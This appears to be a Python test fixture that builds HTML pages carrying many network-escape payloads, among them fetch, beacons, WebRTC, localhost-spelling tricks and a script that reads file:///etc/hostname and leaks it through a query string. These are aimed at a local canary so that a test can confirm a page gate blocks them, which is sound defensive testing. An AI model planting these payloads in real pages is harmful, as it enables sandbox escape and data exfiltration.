"""What a page may try to reach what the gate refuses; each attack is markup, {canary} the place that it is after."""

import socket
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field

from tests.support.servers import Answer, FaultServer, answer, redirect, serving


def script(code: str) -> str:
    return f"<script>{code}</script>"


# {canary}: http://host:port of the canary, {place}: its host:port, {port}: its port, {own}: http://host:port of the
# page itself.
ATTACKS = {
    "fetch": script("fetch('{canary}/a').catch(() => 0)"),
    "fetch without cors": script(
        "fetch('{canary}/a', {{mode: 'no-cors', method: 'POST', body: 'x'}}).catch(() => 0)"
    ),
    "xhr": script("var x = new XMLHttpRequest(); x.open('GET', '{canary}/a'); x.send()"),
    "beacon": script("navigator.sendBeacon('{canary}/a', 'x')"),
    "event source": script("new EventSource('{canary}/a')"),
    "websocket": script("try {{ new WebSocket('ws://{place}/a') }} catch (e) {{}}"),
    "image": "<img src='{canary}/a'>",
    "image by script": script("new Image().src = '{canary}/a'"),
    "iframe": "<iframe src='{canary}/a'></iframe>",
    "iframe of data": "<iframe src=\"data:text/html,<script src='{canary}/a'></script>\"></iframe>",
    "iframe of srcdoc": "<iframe srcdoc=\"<img src='{canary}/a'><script src='{canary}/b'></script>\"></iframe>",
    "object": "<object data='{canary}/a'></object><embed src='{canary}/b'>",
    "script": "<script src='{canary}/a'></script>",
    "module": script("import('{canary}/a').catch(() => 0)"),
    "style": "<link rel=stylesheet href='{canary}/a'>",
    "style that imports": "<style>@import '{canary}/a'; body {{ background: url({canary}/b) }}</style>",
    "font": "<style>@font-face {{ font-family: f; src: url({canary}/a) }} p {{ font-family: f }}</style><p>x</p>",
    "media": "<video src='{canary}/a' autoplay></video><audio src='{canary}/b' autoplay></audio>",
    "prefetch": "<link rel=prefetch href='{canary}/a'><link rel=preload as=script href='{canary}/b'>",
    "preconnect": "<link rel=preconnect href='{canary}'><link rel=dns-prefetch href='{canary}'>",
    "prerender": "<script type=speculationrules>"
    '{{"prerender": [{{"source": "list", "urls": ["{canary}/a"]}}]}}</script>',
    "redirect of a script": "<script src='{own}/to-canary.js'></script>",
    "redirect of a fetch": script("fetch('{own}/to-canary').catch(() => 0)"),
    "redirect that keeps the body": script(
        "fetch('{own}/kept', {{method: 'POST', body: 'x'}}).catch(() => 0)"
    ),
    "redirect of a frame": "<iframe src='{own}/to-canary'></iframe>",
    "worker": script(
        "new Worker(URL.createObjectURL(new Blob([\"importScripts('{canary}/a')\"])));"
        "new Worker(URL.createObjectURL(new Blob([\"fetch('{canary}/b')\"])))"
    ),
    "service worker": script(
        "navigator.serviceWorker && navigator.serviceWorker.register('{own}/sw.js').catch(() => 0)"
    ),
    "webrtc": script(
        "try {{ var p = new RTCPeerConnection({{iceServers: [{{urls: 'stun:{place}'}}]}}); p.createDataChannel('x');"
        "p.createOffer().then(o => p.setLocalDescription(o)) }} catch (e) {{}}"
    ),
    "other spellings": script(
        "for (const host of ['localhost', '2130706433', '0x7f.1', '127.1', '[::ffff:127.0.0.1]', '0.0.0.0',"
        " 'a.localhost']) fetch('http://' + host + ':{port}/a', {{mode: 'no-cors'}}).catch(() => 0)"
    ),
    "file": script(
        "fetch('file:///etc/hostname').then(r => r.text()).then(t => fetch('{own}/leak?' + t)).catch(() => 0)"
    )
    + "<iframe src='file:///etc/hostname'></iframe>",
    "form": "<form id=f method=post action='{canary}/a'><input name=x></form>" + script("f.submit()"),
    "form into a frame": "<iframe name=t></iframe><form id=g target=t action='{canary}/a'></form>"
    + script("g.submit()"),
    "window": script("window.open('{canary}/a')")
    + "<a id=w target=_blank href='{canary}/b'>x</a>"
    + script("w.click()"),
    "ping": "<a id=p ping='{canary}/a' href='#x'>x</a>" + script("p.click()"),
    "download": "<a id=d download href='{canary}/a'>x</a>" + script("d.click()"),
    "location": script("location = '{canary}/a'"),
    "location of a file": script("location = 'file:///etc/hostname'"),
    "source view": script("location = 'view-source:{canary}/a'"),
    "settings of the browser": script("location = 'chrome://version'"),
    "refresh": "<meta http-equiv=refresh content='0;url={canary}/a'>",
}
# These would end the page before others have had their turn.
LEAVING = (
    "form",
    "location",
    "location of a file",
    "source view",
    "settings of the browser",
    "refresh",
    "window",
    "download",
)


@dataclass
class Canary:
    """What nobody may reach, and what reached it."""

    server: FaultServer
    own: FaultServer
    connections: list[object] = field(default_factory=list)
    packets: list[bytes] = field(default_factory=list)

    @property
    def hits(self) -> int:
        """All that came, as a request, a mere connection or a packet."""
        return len(self.server.hits) + len(self.connections) + len(self.packets)

    def markup(self, *names: str) -> bytes:
        """A page with these attacks."""
        attacks = "\n".join(ATTACKS[name] for name in names)
        filled = attacks.format(
            canary=self.server.url(""), place=self.server.place, port=self.server.port, own=self.own.url("")
        )
        return f"<!doctype html><html><body><p id=text>The ferry is late.</p>{filled}</body></html>".encode()


@contextmanager
def canary() -> Iterator[Canary]:
    """A canary, and a server of the page's own that sends there."""
    routes: dict[str, Answer] = {}
    listening = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    with listening, serving({}) as server, serving(routes) as own:
        listening.bind(("127.0.0.1", server.port))
        listening.settimeout(0.05)
        away = server.url("/redirected")
        worker = f"fetch('{away}'); importScripts('{away}')".encode()
        routes |= {
            "/to-canary": redirect(away),
            "/to-canary.js": redirect(away),
            "/kept": redirect(away, 307),
            "/sw.js": answer(worker, Content_Type="text/javascript"),
        }
        found = Canary(server, own)
        ending = threading.Event()

        def listen() -> None:
            while not ending.is_set():
                try:
                    found.packets.append(listening.recv(2_048))
                except TimeoutError:
                    continue

        thread = threading.Thread(target=listen)
        thread.start()
        try:
            yield found
        finally:
            ending.set()
            thread.join()
